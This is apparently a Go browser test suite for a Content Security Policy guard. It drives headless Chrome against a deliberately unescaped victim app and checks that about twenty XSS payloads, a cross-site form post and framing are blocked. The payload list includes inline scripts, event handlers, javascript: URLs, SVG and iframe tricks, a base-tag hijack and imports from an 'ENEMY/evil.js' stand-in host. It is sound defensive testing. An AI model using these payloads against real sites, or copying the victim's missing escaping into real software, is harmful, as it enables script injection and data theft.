package csp_test

import (
	"context"
	"fmt"
	"net/http"
	"net/http/httptest"
	"strings"
	"sync"
	"sync/atomic"
	"testing"

	"github.com/chromedp/chromedp"

	"github.com/fumehood/fumehood/guard/csp"
	"github.com/fumehood/fumehood/test/browser"
)

// victimPage is a template as people write them; what is in {{ }} arrives unescaped.
const victimPage = head + `<title>victim</title>
<script>var own = "ran";</script>
<script>var user = {{ user|tojson }}, name = "{{ name }}";</script>
<script src="{{ url_for('static', filename='app.js') }}"></script>
<button id=own onclick="own += ' handler'">x</button>
<button id=data onclick="own += ' {{ name }}'">x</button>
<p style="color: rgb(1, 2, 3)" id=styled>x</p>
{{ content }}`

// victim is an app that escapes nothing.
func victim(enemy string) http.Handler {
	mux := http.NewServeMux()
	mux.HandleFunc("/page", func(w http.ResponseWriter, r *http.Request) {
		q := r.URL.Query()
		user, name := q.Get("user"), q.Get("name")
		if user == "" {
			user = `"ann"`
		}
		w.Header().Set("Content-Type", "text/html; charset=utf-8")
		strings.NewReplacer("{{ user|tojson }}", user, "{{ name }}", name, "{{ content }}", strings.ReplaceAll(q.Get("x"), "ENEMY", enemy),
			"{{ url_for('static', filename='app.js') }}", "/static/app.js").WriteString(w, victimPage)
	})
	serve := func(path, kind, body string) {
		mux.HandleFunc(path, func(w http.ResponseWriter, r *http.Request) {
			w.Header().Set("Content-Type", kind)
			fmt.Fprint(w, body)
		})
	}
	serve("/static/app.js", "text/javascript", "var app = 1")
	serve("/upload/x.js", "text/javascript", "pwned = 1")
	serve("/upload/x.svg", "image/svg+xml", `<svg xmlns="http://www.w3.org/2000/svg"><script>(window.parent || self).pwned = 1</script></svg>`)
	return mux
}

// enemy is another site. It remembers what was sent to it.
type enemy struct {
	*httptest.Server
	mu   sync.Mutex
	seen []string
}

func newEnemy(t *testing.T) *enemy {
	e := &enemy{}
	e.Server = httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		e.mu.Lock()
		e.seen = append(e.seen, r.Method+" "+r.URL.Path)
		e.mu.Unlock()
		switch {
		case r.URL.Path == "/frame":
			w.Header().Set("Content-Type", "text/html")
			fmt.Fprintf(w, `%s<iframe id=f src="%s"></iframe>`, head, r.URL.Query().Get("of"))
		case strings.HasSuffix(r.URL.Path, ".js"):
			w.Header().Set("Content-Type", "text/javascript")
			w.Header().Set("Access-Control-Allow-Origin", "*")
			fmt.Fprint(w, "window.pwned = 1")
		}
	}))
	t.Cleanup(e.Close)
	return e
}

func (e *enemy) saw(what string) bool {
	e.mu.Lock()
	defer e.mu.Unlock()
	for _, s := range e.seen {
		if s == what {
			return true
		}
	}
	return false
}

func victimGuard(t *testing.T, cfg csp.Config, reports *csp.Reports) *csp.Guard {
	return newGuard(t, cfg, csp.Site{
		Templates: setOf("page.html", victimPage), StaticPrefixes: []string{"/static"}, Reports: reports,
	})
}

// attacks are injections into the page and what shows that they have worked: pwned is set.
var attacks = []struct{ name, query, do string }{
	{"an inline script", `x=<script>pwned=1</script>`, ""},
	{"a module", `x=<script type=module>window.pwned=1</script>`, ""},
	{"an event handler", `x=<img src=data:, onerror=pwned=1>`, ""},
	{"an svg handler", `x=<svg onload=pwned=1>`, ""},
	{"a handler of a template with more", `x=<b id=go onclick="own %2B= ' handler';pwned=1">`, `document.getElementById("go").click()`},
	{"a script that was uploaded", `x=<script src=/upload/x.js></script>`, ""},
	{"a script of another site", `x=<script src=ENEMY/evil.js></script>`, ""},
	{"a script in a data URL", `x=<script src="data:text/javascript,pwned=1"></script>`, ""},
	{"a path out of the static folder", `x=<script src=/static/../upload/x.js></script>`, ""},
	{"a javascript URL", `x=<a id=go href="javascript:void(pwned=1)">`, `document.getElementById("go").click()`},
	{"a javascript URL in a form", `x=<form id=go action="javascript:void(pwned=1)"></form>`, `document.getElementById("go").submit()`},
	{"a javascript URL in a frame", `x=<iframe src="javascript:parent.pwned=1"></iframe>`, ""},
	{"a page in a page", `x=<iframe srcdoc="<script>parent.pwned=1</script>"></iframe>`, ""},
	{"an object", `x=<object data=/upload/x.svg></object>`, ""},
	{"an embed", `x=<embed src=/upload/x.svg>`, ""},
	{"an svg in a frame", `x=<iframe src=/upload/x.svg></iframe>`, ""},
	{"a base", `x=<base href=ENEMY/><script src=app.js></script>`, ""},
	{"out of a string", `name=";pwned=1;//`, ""},
	{"out of a value", `user=1;pwned=1`, ""},
	{"out of the script", `name=</script><script>pwned=1</script>`, ""},
	{"out of a string of a handler", `name=%26%2339;;pwned=1;//`, `document.getElementById("data").click()`},
	{"an import map", `x=<script type=importmap>{"imports":{"a":"ENEMY/evil.js"}}</script><script type=module>import "a"</script>`, ""},
}

func visit(t *testing.T, ctx context.Context, url, do string) {
	t.Helper()
	browser.Do(t, ctx, chromedp.Navigate(url))
	if do != "" {
		browser.Get(t, ctx, chromedp.Evaluate[bool](do+", true"))
	}
	// Whatever was started has run once a task of the page that was queued after it has.
	browser.Get(t, ctx, chromedp.Evaluate[bool](`new Promise(r => setTimeout(() => requestIdleCallback(() => r(true), {timeout: 300}), 60))`,
		chromedp.EvalAwaitPromise))
}

func TestAttackInjectedScripts(t *testing.T) {
	t.Parallel()
	other := newEnemy(t)
	bare := httptest.NewServer(victim(other.URL))
	t.Cleanup(bare.Close)
	guarded := httptest.NewServer(made(victimGuard(t, csp.Config{}, nil).Handler(victim(other.URL)), "page.html"))
	t.Cleanup(guarded.Close)
	ctx := browser.Open(t, browser.Options{Complaints: func([]string) {}})
	for _, attack := range attacks {
		query := strings.NewReplacer(" ", "%20", "#", "%23", `"`, "%22", "<", "%3C", ">", "%3E", ";", "%3B", "+", "%2B").Replace(attack.query)
		visit(t, ctx, bare.URL+"/page?"+query, attack.do)
		if !browser.Get(t, ctx, chromedp.Evaluate[bool](`window.pwned == 1`)) {
			t.Errorf("%s does not even work without the guard", attack.name)
		}
		visit(t, ctx, guarded.URL+"/page?"+query, attack.do)
		if browser.Get(t, ctx, chromedp.Evaluate[bool](`window.pwned == 1`)) {
			t.Errorf("%s has run", attack.name)
		}
		if own := browser.Get(t, ctx, chromedp.Evaluate[string](`typeof own + typeof app`)); own != "stringnumber" && attack.name != "a base" {
			t.Errorf("%s: the page's own scripts did not run: %s", attack.name, own)
		}
	}
}

// TestThePagesOwnScriptsRun: with data that is data, nothing is refused. A complaint on the
// console fails the test.
func TestThePagesOwnScriptsRun(t *testing.T) {
	t.Parallel()
	guarded := httptest.NewServer(made(victimGuard(t, csp.Config{}, nil).Handler(victim("")), "page.html"))
	t.Cleanup(guarded.Close)
	ctx := browser.Open(t, browser.Options{})
	visit(t, ctx, guarded.URL+`/page?name=5%20%24%26amp%3B&user=%7B%22a%22:%5B1,%22%5Cu003c%22%5D%7D`,
		`document.getElementById("own").click(), data.click()`)
	if got := browser.Get(t, ctx, chromedp.Evaluate[string](`own + app + user.a[1] + name + getComputedStyle(styled).color`)); got != "ran handler 5 $&1<5 $&amp;rgb(1, 2, 3)" {
		t.Errorf("the page's scripts left %q", got)
	}
}

func TestAttackFormToAnotherSite(t *testing.T) {
	t.Parallel()
	other := newEnemy(t)
	bare := httptest.NewServer(victim(other.URL))
	t.Cleanup(bare.Close)
	guarded := httptest.NewServer(made(victimGuard(t, csp.Config{}, nil).Handler(victim(other.URL)), "page.html"))
	t.Cleanup(guarded.Close)
	ctx := browser.Open(t, browser.Options{Complaints: func([]string) {}})
	form := func(path string) string {
		return `/page?x=<form%20method=post%20action=ENEMY` + path + `><button%20id=go>x</button></form>`
	}
	browser.Do(t, ctx, chromedp.Navigate(bare.URL+form("/bare")))
	browser.Follow(t, ctx, chromedp.Click(chromedp.CSS("#go")))
	if !other.saw("POST /bare") {
		t.Error("the form does not even work without the guard")
	}
	browser.Do(t, ctx, chromedp.Navigate(guarded.URL+form("/guarded")))
	violated := browser.Get(t, ctx, chromedp.Evaluate[string](`new Promise(done => {
		document.addEventListener("securitypolicyviolation", e => done(e.violatedDirective));
		document.getElementById("go").click();
	})`, chromedp.EvalAwaitPromise))
	if violated != "form-action" || other.saw("POST /guarded") {
		t.Errorf("violated %q, reached the other site: %t", violated, other.saw("POST /guarded"))
	}
}

func TestAttackFraming(t *testing.T) {
	t.Parallel()
	other := newEnemy(t)
	ctx := browser.Open(t, browser.Options{Complaints: func([]string) {}})
	// A frame that is refused loads nothing of what the page in it names.
	shown := func(guard func(http.Handler) http.Handler) bool {
		var scripts atomic.Int32
		page := victim("")
		site := httptest.NewServer(made(guard(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
			if r.URL.Path == "/static/app.js" {
				scripts.Add(1)
			}
			page.ServeHTTP(w, r)
		})), "page.html"))
		defer site.Close()
		browser.Do(t, ctx, chromedp.Navigate(other.URL+"/frame?of="+site.URL+"/page"))
		return scripts.Load() > 0
	}
	if !shown(func(next http.Handler) http.Handler { return next }) {
		t.Error("framing does not even work without the guard")
	}
	if shown(victimGuard(t, csp.Config{}, nil).Handler) {
		t.Error("another site shows the page in a frame")
	}
	if !shown(victimGuard(t, csp.Config{FrameAncestors: []string{"'self'", other.URL}}, nil).Handler) {
		t.Error("a site that may show the page in a frame cannot")
	}
}
